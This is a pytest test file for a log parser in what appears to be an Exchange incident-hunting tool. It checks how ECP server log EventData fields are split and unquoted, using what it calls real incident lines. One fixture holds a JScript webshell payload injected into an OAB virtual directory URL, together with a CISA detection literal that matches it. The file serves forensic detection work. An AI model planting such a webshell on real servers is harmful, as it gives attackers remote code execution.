"""ECP server log: EventData pairs with their two levels of quoting (real incident lines)."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from logread import BLOCK_SIZES, ECP_2021, ECP_2023, read, sample

from exhunt.artifacts.base import RequestView
from exhunt.artifacts.ecp import EcpServerLog, split_event_data
from exhunt.detect.prefilter import build_matcher
from exhunt.model import Record, Source

try:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    HAS_HYPOTHESIS = True
except ImportError:  # pragma: no cover - hypothesis is an optional test dependency
    HAS_HYPOTHESIS = False

WEBSHELL_CMD = (
    'Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" '
    'runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>\''
    ".Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'"
)
EXCEPTION = (
    "Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed "
    "on 10227-OAD-W001.xxx.local. The object 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,"
    "CN=servernavn,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),"
    "CN=Administrative Groups,CN=XXX,CN=Microsoft Exchange,CN=Services,CN=Configuration,"
    "DC=xxx,DC=local' does not exist.\\r\\n\\r\\nThe object does not exist.\\r\\n"
)
CISA_LITERAL = "S:CMD=Set-OabVirtualDirectory.ExternalUrl='"


@pytest.fixture(scope="module")
def helsecert() -> list[dict[str, str]]:
    result = read(sample(ECP_2021), EcpServerLog())
    assert result.stats.bad_records == 0
    return [row.fields for row in result.rows]


def test_helsecert_lines_are_read(helsecert: list[dict[str, str]]) -> None:
    result = read(sample(ECP_2021), EcpServerLog())
    assert result.lines == [7, 8, 9, 10, 11, 12, 13]
    assert result.stats.records == 7
    assert result.rows[0].time == datetime(2021, 3, 3, 6, 49, 51, 389000, tzinfo=UTC)
    assert helsecert[2]["ServerName"] == "SERVERNAVN"
    assert helsecert[2]["EventId"] == "ECP.Request"


def test_webshell_cmd_has_one_level_of_quotes(helsecert: list[dict[str, str]]) -> None:
    assert helsecert[2]["CMD"] == WEBSHELL_CMD
    assert "EX" not in helsecert[2]
    assert helsecert[2]["EventData"].startswith("'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http")
    assert '<script language=""JScript""' not in helsecert[2]["EventData"]


def test_unquoted_pairs_and_empty_pairs(helsecert: list[dict[str, str]]) -> None:
    assert helsecert[0]["CMD"] == "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null"
    assert helsecert[0]["EX"] == ""
    assert helsecert[1]["CMD"] == "Pipeline.1|Get-MailboxRegionalConfiguration"
    assert helsecert[3]["CMD"] == (
        "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'"
    )


def test_exception_value_with_quotes_and_commas(helsecert: list[dict[str, str]]) -> None:
    assert helsecert[4]["CMD"] == (
        "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'"
    )
    assert helsecert[4]["EX"] == EXCEPTION


def test_paths_with_backslashes(helsecert: list[dict[str, str]]) -> None:
    assert helsecert[5]["CMD"] == (
        "Remove-OABVirtualDirectory.Force=$true.Identity='servernavn\\OAB (Default Web Site)'"
    )
    assert helsecert[6]["CMD"] == (
        "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='servernavn'"
        ".Role='ClientAccess'.InternalURL='https://servernavn.xxx.local/OAB'"
        ".Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'"
    )


@pytest.mark.parametrize("block_size", BLOCK_SIZES)
def test_cisa_literal_selects_only_the_webshell_line(block_size: int) -> None:
    result = read(
        sample(ECP_2021),
        EcpServerLog(),
        matcher=build_matcher([CISA_LITERAL]),
        block_size=block_size,
    )
    assert [(row.line, row.ids) for row in result.rows] == [(9, frozenset({0}))]
    assert result.rows[0].fields["CMD"] == WEBSHELL_CMD


def test_ecp_records_are_not_web_requests(helsecert: list[dict[str, str]]) -> None:
    parser = EcpServerLog()
    record = Record(Source(parser.type, "ECPServer.LOG"), 9, None, helsecert[2])
    assert parser.view(record) == RequestView()
    assert parser.build_of(record) is None


def test_real_2023_line() -> None:
    result = read(sample(ECP_2023), EcpServerLog())
    assert result.stats.bad_records == 0
    fields = result.rows[0].fields
    assert fields["CMD"] == "Get-InboxRule"
    assert fields["URL"] == "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY"
    assert fields["BLD"] == "15.1.2375.7"
    assert fields["TNAME"] == "<null>"
    assert fields["REQID"] == ""
    assert fields["ACID"] == ""
    assert fields["TimeStamp"] == "2023-01-11T00:02:33.966Z"


def test_split_event_data_docstring_case() -> None:
    assert split_event_data("S:CMD=Get-X.Identity=$null;;'S:EX=a ''b'''") == {
        "S:CMD": "Get-X.Identity=$null",
        "S:EX": "a 'b'",
    }


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", {}),
        (";;;", {}),
        ("S:A=1;S:A=2", {"S:A": "1"}),
        ("'S:CMD=Set-X.Url=''a;b'''", {"S:CMD": "Set-X.Url='a;b'"}),
        ("'S:A=x'junk;S:B=y", {"S:A": "x", "S:B": "y"}),
        ("S:URL=/ecp/x?a=b=c", {"S:URL": "/ecp/x?a=b=c"}),
        (
            "Dbl:WLM.TS=16;I32:ADS.C[DC-HOSTNAME]=1",
            {"Dbl:WLM.TS": "16", "I32:ADS.C[DC-HOSTNAME]": "1"},
        ),
        ("novalue", {"novalue": ""}),
    ],
)
def test_split_event_data_cases(text: str, expected: dict[str, str]) -> None:
    assert split_event_data(text) == expected


@pytest.mark.parametrize("text", ["'S:CMD=abc", "'", "''", "'''", "';'", "S:A='x;S:B=y", "'S:A=''"])
def test_split_event_data_survives_unbalanced_quotes(text: str) -> None:
    assert isinstance(split_event_data(text), dict)


if HAS_HYPOTHESIS:
    _keys = st.from_regex(r"[A-Za-z0-9]{1,5}:[A-Z]{1,6}", fullmatch=True)
    _values = st.text(max_size=30)

    @settings(database=None)
    @given(pairs=st.dictionaries(_keys, _values, max_size=6))
    def test_split_event_data_undoes_the_quoting(pairs: dict[str, str]) -> None:
        encoded = ";".join(_encode(key, value) for key, value in pairs.items())
        assert split_event_data(encoded) == pairs

    @settings(database=None)
    @given(text=st.text(max_size=60))
    def test_split_event_data_never_fails(text: str) -> None:
        assert isinstance(split_event_data(text), dict)


def _encode(key: str, value: str) -> str:
    pair = f"{key}={value}"
    if any(char in value for char in ";'"):
        return "'" + pair.replace("'", "''") + "'"
    return pair
